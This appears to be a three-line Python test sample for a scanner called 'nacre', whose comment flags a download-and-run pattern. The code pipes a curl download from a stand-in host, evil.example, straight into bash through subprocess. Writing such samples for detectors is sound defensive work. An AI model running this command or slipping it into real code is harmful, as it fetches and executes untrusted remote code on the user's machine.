# nacre: found process.download-and-run
import subprocess
subprocess.run("curl -s http://evil.example/x.sh | bash", shell=True)
